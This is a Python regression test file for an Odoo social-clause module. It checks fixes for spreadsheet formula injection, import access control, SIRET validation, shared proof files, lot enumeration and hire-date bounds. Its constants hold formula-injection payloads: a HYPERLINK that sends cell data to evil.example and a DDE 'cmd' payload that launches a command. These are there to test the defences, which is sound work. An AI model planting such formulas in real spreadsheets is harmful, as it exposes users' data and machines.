# Copyright 2026 social_clause contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Regression tests of the security findings 5, 6, 8, 10 and 11 of issue 16
and of the SIRET identity rule: by URL, form and JSON-RPC, for two firms,
two buyers, two prescribers and a plain internal user."""

import base64
import io
import re

from dateutil.relativedelta import relativedelta
from openpyxl import load_workbook

from odoo import Command
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import Form, tagged
from odoo.tests.common import JsonRpcException
from odoo.tools import mute_logger

from .common import (
    PDF,
    PortalMonthCommon,
    SocialClauseCase,
    SocialClausePortalCommon,
    UpstreamCase,
    XlsxCase,
    make_user,
)
from .test_upstream_siae_import import HEADER, ROWS, csv_content

# What a firm or a prescriber may type as a name: a live formula in a
# spreadsheet (it leaks the sheet to evil.example, or runs a command).
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
FORMULA_2 = "=cmd|' /C calc'!A0 Travaux"
FORMULA_3 = "@SUM(1+1) Peinture"


def _cells(content):
    """Every non-empty cell of a workbook: [(sheet, cell)]."""
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


class FormulaMixin:
    def assertWrittenAsText(self, content, values, allowed_formulas=("=SUM(",)):
        """Each of ``values`` is in the workbook as a string cell (data type
        's', its text unchanged, no link); the only formulas are the
        module's own."""
        cells = _cells(content)
        for value in values:
            found = [cell for __, cell in cells if cell.value == value]
            self.assertTrue(found, f"{value!r} is not in the workbook")
            for cell in found:
                self.assertEqual(cell.data_type, "s", value)
                self.assertIsNone(cell.hyperlink, value)
        for sheet, cell in cells:
            if cell.data_type == "f":
                self.assertTrue(
                    str(cell.value).startswith(allowed_formulas),
                    f"{sheet}!{cell.coordinate}: {cell.value}",
                )


@tagged("post_install", "-at_install")
class TestFormulaInjectionReports(FormulaMixin, XlsxCase):
    """Finding 5: the hours export, the annual survey and the DECP."""

    def _render_raw(self, report, records, data=None):
        content, kind = (
            self.env["ir.actions.report"]
            .with_user(self.facilitator)
            ._render(report, records.ids, data or {})
        )
        self.assertEqual(kind, "xlsx")
        return content

    def test_hours_export_writes_names_as_text(self):
        self.firm_a.name = FORMULA
        self.participant.name = FORMULA_2
        self.lot_1.name = FORMULA_3
        content = self._render_raw("social_clause.hour_xlsx", self.lines)
        self.assertWrittenAsText(content, [FORMULA, FORMULA_2, FORMULA_3])

    def test_annual_survey_and_decp_write_names_as_text(self):
        self.sector_masonry.with_context(lang="fr_FR").name = FORMULA
        self.buyer.name = FORMULA_2
        self.operation.name = FORMULA_3
        wizard = (
            self.env["social.clause.annual.survey.wizard"]
            .with_user(self.facilitator)
            .create({"year": self.year, "buyer_id": self.buyer.id})
        )
        survey = self._render_raw("social_clause.annual_survey_xlsx", wizard)
        self.assertWrittenAsText(survey, [FORMULA])
        decp = self._render_raw("social_clause.decp_xlsx", wizard)
        self.assertWrittenAsText(decp, [FORMULA_2, FORMULA_3])

    def test_siae_catalogue_writes_names_as_text(self):
        self.firm_b.write(
            {
                "name": FORMULA,
                "siae_services": FORMULA_2,
                "website": "https://evil.example/login",
            }
        )
        content = self._render_raw(
            "social_clause.report_siae_catalogue_xlsx", self.firm_b
        )
        self.assertWrittenAsText(
            content, [FORMULA, FORMULA_2, "https://evil.example/login"]
        )

    def test_every_workbook_turns_strings_to_nothing(self):
        for report in (
            "report.social_clause.hour_xlsx",
            "report.social_clause.annual_survey_xlsx",
            "report.social_clause.decp_xlsx",
            "report.social_clause.report_siae_catalogue_xlsx",
        ):
            with self.subTest(report=report):
                options = self.env[report].get_workbook_options()
                self.assertIs(options["strings_to_formulas"], False)
                self.assertIs(options["strings_to_urls"], False)


@tagged("post_install", "-at_install")
class TestFormulaInjectionPortal(FormulaMixin, SocialClausePortalCommon):
    """Finding 5 on the portal: the buyer's workbook and the firm's
    template, by URL."""

    def test_buyer_workbook_writes_names_as_text(self):
        self.lot_masonry.name = FORMULA
        self.firm_b.name = FORMULA_2
        self._login(self.user_buyer)
        response = self.url_open(f"{self.operation.access_url}/xlsx")
        self.assertEqual(response.status_code, 200)
        self.assertWrittenAsText(response.content, [FORMULA, FORMULA_2])
        # The other buyer gets nothing of it.
        self._login(self.user_other_buyer)
        self.assertRefused(f"{self.operation.access_url}/xlsx")

    def test_import_template_is_text(self):
        # The firm's own template carries its SIRET: digits kept as text.
        firm = self.commitment_a.partner_id.commercial_partner_id
        firm.company_registry = "12345678200010"
        self._login(self.user_a)
        response = self.url_open(
            f"/my/social_clauses/{self.commitment_a.id}/import_template"
        )
        self.assertEqual(response.status_code, 200)
        cells = _cells(response.content)
        self.assertTrue(cells)
        self.assertFalse([cell for __, cell in cells if cell.data_type == "f"])
        siret = [cell for __, cell in cells if cell.value == "12345678200010"]
        self.assertEqual(siret[0].data_type, "s")


@tagged("post_install", "-at_install")
class TestSiretOnPartners(SocialClauseCase):
    """The SIRET typed on a partner's form: checked with its key, stored
    without its spaces."""

    def test_form_stores_the_siret_without_spaces(self):
        form = Form(self.env["res.partner"])
        form.name = "Menuiserie Martin"
        form.company_type = "company"
        form.company_registry = "732 829 320 00074"
        self.assertEqual(form.company_registry, "73282932000074")
        partner = form.save()
        self.assertEqual(partner.company_registry, "73282932000074")
        # write() and create() do it too (imports, JSON-RPC).
        partner.company_registry = "356.000.000.00048"
        self.assertEqual(partner.company_registry, "35600000000048")

    def test_form_refuses_a_wrong_key(self):
        table = [
            ("732 829 320 00075", "n'est pas valide : sa clé"),
            ("35600000012345", "n'est pas valide : sa clé"),
            ("7328293200007", "doit comporter 14 chiffres (13 saisis)"),
            ("73282932000O74", "ne doit contenir que des chiffres"),
        ]
        for typed, message in table:
            with self.subTest(typed=typed):
                form = Form(self.env["res.partner"])
                form.name = "Menuiserie Martin"
                form.company_type = "company"
                form.company_registry = typed
                with self.assertRaises(ValidationError) as catcher:
                    form.save()
                self.assertIn(message, str(catcher.exception))
                with self.assertRaises(ValidationError):
                    self.firm_a.company_registry = typed

    def test_foreign_registry_is_not_a_siret(self):
        partner = self.env["res.partner"].create(
            {
                "name": "Bouw NV",
                "is_company": True,
                "country_id": self.env.ref("base.be").id,
                "company_registry": "0403.170.701",
            }
        )
        self.assertEqual(partner.company_registry, "0403.170.701")
        with self.assertRaises(ValidationError):
            partner.country_id = self.env.ref("base.fr")

    def test_hour_import_matches_a_siret_typed_with_spaces(self):
        self.firm_a.company_registry = "732 829 320 00074"
        # A SIRET stored with its spaces before this rule, as an old base has.
        self.env.cr.execute(
            "UPDATE res_partner SET company_registry = %s WHERE id = %s",
            ("901 234 567 00013", self.firm_b.id),
        )
        self.env.invalidate_all()
        rows = [
            "Participant;Lot;SIRET;Mois;Heures;Modalité",
            f"{self.participant.reference};{self.lot_1.reference};"
            f"732 829 320 00074;{self.month.strftime('%m/%Y')};35;CDI",
            f"{self.participant_2.reference};{self.lot_2.reference};"
            f"90123456700013;{self.month.strftime('%m/%Y')};20;CDI",
            f"{self.participant_2.reference};{self.lot_1.reference};"
            f"73282932000075;{self.month.strftime('%m/%Y')};20;CDI",
        ]
        wizard = self.env["social.clause.hour.import"].create(
            {
                "file": base64.b64encode("\n".join(rows).encode()),
                "filename": "heures.csv",
            }
        )
        wizard.action_import()
        self.assertEqual(wizard.state, "error")
        self.assertIn(
            "Ligne 4 : Le SIRET « 73282932000075 » n'est pas valide", wizard.report
        )
        self.assertNotIn("Ligne 2", wizard.report)
        self.assertNotIn("Ligne 3", wizard.report)
        # Without the bad row, both firms are found, none duplicated.
        wizard = self.env["social.clause.hour.import"].create(
            {
                "file": base64.b64encode("\n".join(rows[:3]).encode()),
                "filename": "heures.csv",
            }
        )
        wizard.action_import()
        self.assertEqual(wizard.state, "done", wizard.report)
        self.assertEqual(wizard.created_count, 2)
        created = self.env["social.clause.hour"].search(
            [("participant_id", "in", (self.participant | self.participant_2).ids)]
        )
        self.assertEqual(created.commitment_id, self.commitment_a1 | self.commitment_b2)


@tagged("post_install", "-at_install")
class TestSiaeDirectoryImport(UpstreamCase):
    """Finding 6 and the SIRET in the directory import: the import creates
    and updates inclusive employers only; a bad SIRET is reported."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Partner = cls.env["res.partner"]
        cls.town.write(
            {"company_registry": "21590350100017", "email": "achats@testville.fr"}
        )
        cls.other_buyer = Partner.create(
            {
                "name": "Office HLM du Test",
                "is_company": True,
                "social_clause_buyer_kind": "social_landlord",
                "company_registry": "27590001700011",
            }
        )
        cls.firm = Partner.create(
            {
                "name": "Gros Oeuvre SA",
                "is_company": True,
                "company_registry": "73282932000074",
                "email": "rh@grosoeuvre.fr",
            }
        )
        cls.prescriber = Partner.create(
            {
                "name": "Mission Locale du Test",
                "is_company": True,
                "social_clause_partner_kind": "mission_locale",
                "company_registry": "41234567000019",
            }
        )
        cls.internal_user = make_user(cls.env, "sc_up_plain")

    def _run(self, content, user=None):
        with Form(
            self.env["social.clause.siae.import"].with_user(user or self.facilitator)
        ) as form:
            form.file = base64.b64encode(content)
        wizard = form.record
        wizard.action_import()
        return wizard

    def _row(self, siret, name="Structure Pirate", email="pirate@evil.example"):
        row = list(ROWS[1])
        row[HEADER.index("Raison sociale")] = name
        row[HEADER.index("Siret")] = siret
        row[HEADER.index("E-mail")] = email
        return row

    def _snapshot(self, partners):
        fields_read = [
            "name",
            "email",
            "social_clause_employer_kind",
            "company_registry",
            "street",
        ]
        self.env.invalidate_all()
        return partners.read(fields_read)

    def test_import_never_rewrites_a_buyer_a_firm_or_a_prescriber(self):
        others = self.town | self.other_buyer | self.firm | self.prescriber
        before = self._snapshot(others)
        partner_count = self.env["res.partner"].search_count([])
        for partner in others:
            with self.subTest(partner=partner.name):
                typed = partner.company_registry
                spaced = f"{typed[:3]} {typed[3:6]} {typed[6:9]} {typed[9:]}"
                wizard = self._run(csv_content([ROWS[0], self._row(spaced)]))
                self.assertEqual(wizard.state, "error", wizard.report)
                self.assertIn(
                    f"Ligne 3 : le SIRET {typed} est celui d'un contact qui "
                    "n'est pas une structure inclusive de l'annuaire",
                    wizard.report,
                )
                self.assertNotIn("Ligne 2", wizard.report)
        self.assertEqual(self._snapshot(others), before)
        self.assertEqual(self.env["res.partner"].search_count([]), partner_count)
        # An offer search does not find them as SIAE.
        self.assertFalse(
            self.env["res.partner"]._search_siae_offer() & others,
        )

    def test_import_updates_a_structure_stored_with_spaces(self):
        structure = self._structures(self.env.ref("social_clause.sector_cleaning"), 1)
        self.env.cr.execute(
            "UPDATE res_partner SET company_registry = %s WHERE id = %s",
            ("902 234 566 00013", structure.id),
        )
        self.env.invalidate_all()
        wizard = self._run(csv_content([ROWS[1]]))
        self.assertEqual(wizard.state, "done", wizard.report)
        self.assertEqual((wizard.created_count, wizard.updated_count), (0, 1))
        self.assertEqual(structure.name, "Net Insertion Test")
        self.assertEqual(structure.company_registry, "90223456600013")

    def test_bad_siret_rows_are_reported_not_imported(self):
        table = [
            ("90223456600014", "Le SIRET « 90223456600014 » n'est pas valide"),
            ("35600000012345", "Le SIRET « 35600000012345 » n'est pas valide"),
            (FORMULA, 'Le SIRET « =HYPERLINK("https://evil.exam… » ne doit'),
            ("", "le SIRET est vide"),
        ]
        for siret, message in table:
            with self.subTest(siret=siret):
                wizard = self._run(csv_content([ROWS[0], self._row(siret)]))
                self.assertEqual(wizard.state, "error")
                self.assertIn(f"Ligne 3 : {message}", wizard.report)
                self.assertFalse(
                    self.env["res.partner"].search(
                        [("company_registry", "=", "90123456700013")]
                    )
                )
        # La Poste's exception is a right SIRET.
        wizard = self._run(csv_content([self._row("356 000 000 00105")]))
        self.assertEqual(wizard.state, "done", wizard.report)
        self.assertEqual(wizard.created_count, 1)

    def test_plain_internal_user_cannot_import(self):
        with self.assertRaises(AccessError):
            self._run(csv_content([ROWS[1]]), user=self.internal_user)
        self.assertFalse(
            self.env["res.partner"].search(
                [("company_registry", "=", "90223456600013")]
            )
        )


@tagged("post_install", "-at_install")
class TestSiretByJsonRpc(SocialClausePortalCommon):
    """The SIRET through JSON-RPC: the same check; firms, buyers and a plain
    internal user cannot change a partner's SIRET at all."""

    def _call(self, model, method, args, kwargs=None):
        return self.make_jsonrpc_request(
            "/web/dataset/call_kw",
            {"model": model, "method": method, "args": args, "kwargs": kwargs or {}},
        )

    @mute_logger("odoo.http")
    def test_write_siret_by_json_rpc(self):
        manager = make_user(
            self.env,
            "sc_partner_manager",
            "base.group_partner_manager",
            name="Paul Partners",
            lang="fr_FR",
        )
        manager.groups_id = [Command.link(self.env.ref("base.group_user").id)]
        plain = make_user(self.env, "sc_plain", name="Pia Plain", lang="fr_FR")
        self._login(manager)
        self._call(
            "res.partner",
            "write",
            [self.firm_a.ids, {"company_registry": "732 829 320 00074"}],
        )
        self.env.invalidate_all()
        self.assertEqual(self.firm_a.company_registry, "73282932000074")
        with self.assertRaises(JsonRpcException) as catcher:
            self._call(
                "res.partner",
                "write",
                [self.firm_a.ids, {"company_registry": "73282932000075"}],
            )
        self.assertEqual(str(catcher.exception), "odoo.exceptions.ValidationError")
        for user in (self.user_a, self.user_b, self.user_buyer, plain):
            with self.subTest(user=user.login):
                self._login(user)
                with self.assertRaises(JsonRpcException):
                    self._call(
                        "res.partner",
                        "write",
                        [self.firm_a.ids, {"company_registry": "41234567000019"}],
                    )
        self.env.invalidate_all()
        self.assertEqual(self.firm_a.company_registry, "73282932000074")


@tagged("post_install", "-at_install")
class TestSharedMonthProof(PortalMonthCommon):
    """Finding 8: withdrawing one line keeps the proof the other lines of
    the month share."""

    def _declare_two_with_one_proof(self):
        self._login(self.user_a)
        response = self._post(
            self.commitment_a,
            "declare_month",
            {
                "month": self.month,
                f"hours_{self.participant_a.id}": "20",
                f"modality_{self.participant_a.id}": "hire_cdi",
                f"hours_{self.participant_a2.id}": "30",
                f"modality_{self.participant_a2.id}": "hire_cdd",
            },
            files=[("proof_month", ("journal.pdf", PDF, "application/pdf"))],
        )
        self.assertEqual(response.status_code, 303, response.text[:300])
        lines = self._lines(self.commitment_a).filtered(
            lambda line: line.state == "submitted"
        )
        self.assertEqual(len(lines), 2)
        proof = lines.attachment_ids
        self.assertEqual(len(proof), 1)
        holder = lines.filtered(lambda line: line.id == proof.res_id)
        self.assertTrue(holder, "the proof belongs to one of the lines")
        return proof, holder, lines - holder

    def _proof_url(self, proof):
        return f"/my/social_clauses/{self.commitment_a.id}/proof/{proof.id}"

    def test_withdrawing_the_first_line_keeps_the_proof(self):
        proof, holder, other = self._declare_two_with_one_proof()
        response = self._post(
            self.commitment_a, f"hours/{holder.id}/withdraw", {}, csrf=True
        )
        self.assertEqual(response.status_code, 303)
        self.env.invalidate_all()
        self.assertFalse(holder.exists())
        self.assertTrue(proof.exists())
        self.assertEqual(other.attachment_ids, proof)
        self.assertEqual(proof.res_id, other.id)
        download = self.url_open(self._proof_url(proof))
        self.assertEqual(download.status_code, 200)
        self.assertEqual(download.content, PDF)
        # Another firm still cannot read it.
        self._login(self.user_b)
        response = self.url_open(self._proof_url(proof), allow_redirects=False)
        self.assertNotEqual(response.status_code, 200)
        # The last line takes the proof with it.
        self._login(self.user_a)
        self._post(self.commitment_a, f"hours/{other.id}/withdraw", {}, csrf=True)
        self.env.invalidate_all()
        self.assertFalse(other.exists())
        self.assertFalse(proof.exists())

    def test_facilitator_deleting_a_line_keeps_the_shared_proof(self):
        proof, holder, other = self._declare_two_with_one_proof()
        holder.with_user(self.facilitator).unlink()
        self.env.invalidate_all()
        self.assertTrue(proof.exists())
        self.assertEqual(other.attachment_ids, proof)
        self.assertEqual(proof.res_id, other.id)


@tagged("post_install", "-at_install")
class TestFirmFileLotLookup(SocialClausePortalCommon):
    """Finding 10: a firm's file gets one answer for a lot that does not
    exist and a lot it has no commitment on, by URL."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.secret = cls.env["social.clause.operation"].create(
            {
                "name": "Projet confidentiel",
                "buyer_id": cls.other_buyer.id,
                "user_id": cls.facilitator.id,
                "lot_ids": [Command.create({"name": "Toiture secrète"})],
            }
        )
        cls.secret_lot = cls.secret.lot_ids

    def _import(self, commitment, lots, participant):
        month = self.last_month.strftime("%m/%Y")
        rows = ["Participant;Lot;Mois;Heures;Modalité"] + [
            f"{participant.name};{lot};{month};10;CDI" for lot in lots
        ]
        data = {"csrf_token": self._csrf_token(commitment)}
        response = self.url_open(
            f"/my/social_clauses/{commitment.id}/import",
            data=data,
            files=[
                ("hours_file", ("heures.csv", "\n".join(rows).encode(), "text/csv")),
                ("proof_file", ("releve.pdf", PDF, "application/pdf")),
            ],
        )
        self.assertEqual(response.status_code, 200)
        return self._text(response)

    def _answers(self, page, lots):
        """The report's answer for each row, with the lot typed taken out."""
        answers = []
        for number, lot in enumerate(lots, 2):
            match = re.search(rf"Ligne {number} : ([^\n<]*)", page)
            self.assertTrue(match, page[:2000])
            answers.append(match.group(1).replace(lot, "<lot>"))
        return answers

    def test_one_answer_for_unknown_and_foreign_lots(self):
        cases = [
            (
                self.user_a,
                self.commitment_a,
                self.participant_a,
                self.lot_painting,  # firm B's lot, same operation
            ),
            (self.user_b, self.commitment_b, self.participant_b, self.lot_masonry),
        ]
        before = self._written_counts()
        for user, commitment, participant, foreign in cases:
            with self.subTest(user=user.login):
                self._login(user)
                lots = [
                    self.secret_lot.reference,  # another buyer's draft
                    self.secret_lot.name,
                    foreign.reference,
                    foreign.name,
                    "LOT-99999",
                    "Lot qui n'existe pas",
                ]
                answers = self._answers(
                    self._import(commitment, lots, participant), lots
                )
                self.assertEqual(len(set(answers)), 1, answers)
                self.assertIn(
                    "votre entreprise n'a pas d'engagement sur un lot <lot>",
                    answers[0],
                )
                self.assertEqual(self._written_counts(), before)


@tagged("post_install", "-at_install")
class TestFirmHireDate(SocialClausePortalCommon):
    """Finding 11: the entry date a firm gives is within the offer's and
    the lot's dates, by URL and JSON-RPC."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.operation.date_end = cls.today + relativedelta(months=3)
        cls.offer = cls.env["social.clause.job.offer"].create(
            {
                "name": "Aide-maçon",
                "commitment_id": cls.commitment_a.id,
                "user_id": cls.facilitator.id,
                "zip": "59000",
                "date_start": cls.today - relativedelta(days=10),
                "duration_months": 12,
            }
        )
        cls.offer.action_open()
        person = cls.env["social.clause.participant"].create(
            {"name": "Nadia Recrue", "criterion_ids": [Command.set(cls.criterion.ids)]}
        )
        person.action_validate_eligibility()
        cls.candidacy = cls.offer._add_candidates(person)
        cls.candidacy.action_send_to_firm()

    def _answer(self, hire_date):
        page = self.url_open(self.offer.access_url)
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        return self.url_open(
            f"/my/job_offers/candidacy/{self.candidacy.id}/answer",
            data={"csrf_token": csrf, "answer": "hire", "hire_date": hire_date},
            allow_redirects=False,
        )

    def test_entry_date_outside_the_offer_and_lot_is_refused(self):
        self._login(self.user_a)
        lot_end = self.operation.date_end
        for typed in (
            "2099-12-31",
            str(lot_end + relativedelta(days=1)),
            str(self.offer.date_start - relativedelta(days=1)),
            "2000-01-01",
        ):
            with self.subTest(hire_date=typed):
                response = self._answer(typed)
                self.assertEqual(response.status_code, 200)
                self.assertIn(
                    "est en dehors de l'offre et du lot : indiquez une date du",
                    self._text(response),
                )
                self.env.invalidate_all()
                self.assertEqual(self.candidacy.stage_kind, "sent")
                self.assertFalse(self.candidacy.hire_date)
                self.assertNotEqual(self.candidacy.participant_id.path_state, "in_path")
        # Firm B and the two buyers cannot answer for firm A.
        for user in (self.user_b, self.user_buyer, self.user_other_buyer):
            with self.subTest(user=user.login):
                self._login(user)
                page = self.url_open("/my/account")
                csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
                response = self.url_open(
                    f"/my/job_offers/candidacy/{self.candidacy.id}/answer",
                    data={
                        "csrf_token": csrf.group(1),
                        "answer": "hire",
                        "hire_date": str(self.today),
                    },
                    allow_redirects=False,
                )
                # The refused page says why (not their candidate), nothing else.
                self.assertEqual(response.status_code, 403)
                self.assertNotIn(self.candidacy.candidate_name, response.text)
        self.env.invalidate_all()
        self.assertEqual(self.candidacy.stage_kind, "sent")
        # A date within the bounds: hired, the path starts that day.
        self._login(self.user_a)
        response = self._answer(str(self.today))
        self.assertEqual(response.status_code, 303)
        self.env.invalidate_all()
        self.assertEqual(self.candidacy.stage_kind, "hired")
        self.assertEqual(self.candidacy.hire_date, self.today)
        self.assertEqual(self.candidacy.participant_id.entry_date, self.today)

    @mute_logger("odoo.http")
    def test_hire_method_not_callable_by_json_rpc(self):
        self._login(self.user_a)
        with self.assertRaises(JsonRpcException):
            self.make_jsonrpc_request(
                "/web/dataset/call_kw",
                {
                    "model": "social.clause.candidacy",
                    "method": "_portal_firm_hire",
                    "args": [self.candidacy.ids, "2099-12-31"],
                    "kwargs": {},
                },
            )
        with self.assertRaises(JsonRpcException):
            self.make_jsonrpc_request(
                "/web/dataset/call_kw",
                {
                    "model": "social.clause.candidacy",
                    "method": "write",
                    "args": [self.candidacy.ids, {"hire_date": "2099-12-31"}],
                    "kwargs": {},
                },
            )
        self.env.invalidate_all()
        self.assertFalse(self.candidacy.hire_date)
